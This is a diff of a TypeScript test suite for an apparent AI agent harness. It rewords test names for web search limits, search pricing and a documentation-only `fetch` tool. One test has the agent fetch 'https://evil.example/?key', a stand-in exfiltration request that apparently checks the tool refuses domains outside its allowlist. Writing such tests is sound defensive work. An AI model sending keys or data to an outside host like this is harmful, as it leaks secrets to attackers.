@@ -8,14 +8,17 @@ const searching = (queries: string[], more: object = look): Answer => ({
   search: queries,
 });
 type Session = Awaited<ReturnType<typeof converse>>;
-/** What each request let the provider search; null = it had no such tool. */
+/**
+ * Returns the searches that each request allows the provider; null = the request had no search
+ * tool.
+ */
 const allowed = ({ api }: Session) =>
   api.sent.map(
     ({ body }) => body.tools.find(({ type }) => type === "web_search_20250305")?.max_uses ?? null,
   );
 
 describe("a session that may search the web", () => {
-  it("has the provider's search, with the uses that are left of the whole session's", async () => {
+  it("has the provider's search, limited to the uses that the whole session has left", async () => {
     const answers = [
       searching(["node 26 release"]),
       look,
@@ -30,7 +33,7 @@ describe("a session that may search the web", () => {
     expect(session.lines).toContain("|   1 pages");
   });
 
-  it("has what was found in its next request, as it came", async () => {
+  it("sends the search results unchanged in its next request", async () => {
     await using session = await converse([searching(["node 26 release"]), close], { searches: 3 });
     const blocks = session.api.sent[1]!.body.messages[1]!.content as { type: string }[];
     expect(blocks.map(({ type }) => type)).toEqual([
@@ -41,7 +44,7 @@ describe("a session that may search the web", () => {
     expect(JSON.stringify(blocks)).toContain('"encrypted_content":"e"');
   });
 
-  it("goes on with a turn that the provider paused, and says nothing in between", async () => {
+  it("continues a turn that the provider paused, without another message", async () => {
     const paused = searching(["node 26 release"], { stop: "pause_turn" });
     await using session = await converse([paused, close], { searches: 3 });
     expect(session.result.ended).toBe("closed");
@@ -52,19 +55,19 @@ describe("a session that may search the web", () => {
     expect(allowed(session)).toEqual([3, 2]);
   });
 
-  it("pays $10 for a thousand searches, on top of the tokens", async () => {
+  it("pays $10 for a thousand searches in addition to the tokens", async () => {
     await using session = await converse([searching(["a", "b"]), close], { searches: 5 });
     await using without = await converse([look, close], { searches: 5 });
     expect(session.usage.dollars! - without.usage.dollars!).toBeCloseTo(0.02, 9);
   });
 
-  it("counts the searches of an answer that broke off", async () => {
+  it("counts the searches of an interrupted answer", async () => {
     const cut: Answer = { broken: null, search: ["a", "b"] };
     await using session = await converse([cut, close], { searches: 3 });
     expect(allowed(session)).toEqual([3, 1]);
   }, 10_000);
 
-  it("is told so, and no other session is", async () => {
+  it("learns of the search from its prompt, and no other session does", async () => {
     await using one = await converse([close], { searches: 3 });
     await using other = await converse([close], { searches: 0 });
     expect(JSON.stringify(one.api.sent[0]!.body.system)).toContain(
@@ -75,7 +78,7 @@ describe("a session that may search the web", () => {
 });
 
 describe("a session that may read documentation", () => {
-  it("has the tool `fetch` and is told of it; no other session is", async () => {
+  it("has the tool `fetch` and learns of it from its prompt; no other session does", async () => {
     const input = { docs: ["docs.python.org"] };
     await using one = await converse([close], { input });
     await using other = await converse([close]);
@@ -84,7 +87,7 @@ describe("a session that may read documentation", () => {
     expect(JSON.stringify(other.api.sent[0]!.body)).not.toContain("fetch");
   });
 
-  it("is told by the tool why a page can't be read, and goes on", async () => {
+  it("learns from the tool why a page can't be read, and continues", async () => {
     const asking: Answer = { call: [["fetch", { url: "https://evil.example/?key" }]] };
     await using session = await converse([asking, close], { input: { docs: ["docs.python.org"] } });
     const [result] = session.api.results(1);
